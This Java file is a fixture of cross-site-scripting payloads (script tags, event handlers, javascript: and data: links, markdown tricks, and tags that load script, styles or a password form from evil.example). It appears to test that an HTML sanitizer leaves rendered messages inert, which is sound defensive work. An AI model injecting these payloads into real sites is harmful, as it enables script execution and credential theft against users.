package org.puentesur.dialogue;

import java.util.regex.Pattern;
import java.util.stream.Stream;

/** Texts by which somebody would have another's browser do something. */
public final class HostileTexts {

  // all that may come out: these tags, and of attributes a link's two
  private static final Pattern INERT =
      Pattern.compile(
          "</?(?:p|strong|em|code|pre|ul|ol|li|blockquote)>|<ol start=\"\\d+\">|<br />"
              + "|<a rel=\"nofollow noopener noreferrer\" href=\"(?:https?://|mailto:|/)[^\"<>]*\">|</a>"
              + "|[^<>]");

  private HostileTexts() {}

  /** What of a message's HTML could do something; empty where it is inert. */
  public static String actingIn(String html) {
    return INERT.matcher(html).replaceAll("");
  }

  /** All of them, each as one message. */
  public static Stream<String> all() {
    return Stream.of(
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src='x' onerror='alert(1)'/>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<form action=https://evil.example><input name=password><button>",
        "<object data=x></object><embed src=x>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "<x onclick=alert(1) style=position:fixed;inset:0>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example/x)",
        "[x](/\\evil.example/x)",
        "[x](\\\\evil.example\\x)",
        "[x](https://a.example \"onmouseover=alert(1)\")",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
        "<javascript:alert(1)>",
        "<https://a.example/\"onclick=alert(1)>",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][1]\n\n[1]: https://a.example '\" onmouseover=alert(1) \"'",
        "![x](javascript:alert(1))",
        "![\" onerror=alert(1) \"](x)",
        "![x](https://evil.example/p.gif \"t\")",
        "![a![b](javascript:alert(1))](x)",
        "[![x](y)](javascript:alert(1))",
        "```\"><script>alert(1)</script>\ncode\n```",
        "``` onclick=alert(1)\ncode\n```",
        "`<img src=x onerror=alert(1)>`",
        "**<b onmouseover=alert(1)>x</b>**",
        "- <img src=x onerror=alert(1)>\n- <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "https://a.example/<script>alert(1)</script>",
        "https://a.example/\"><img/src=x/onerror=alert(1)>",
        "www.evil.example/\"onclick=\"alert(1)",
        "mailto:a@b.example\"onclick=alert(1)",
        "[x](mailto:a@b.example?body=%22onclick%3Dalert(1))",
        "\u202Ehttps://evil.example\u202C",
        "<<script>script>alert(1)<</script>/script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "{{constructor.constructor('alert(1)')()}} #{facesContext} ${7*7}");
  }
}
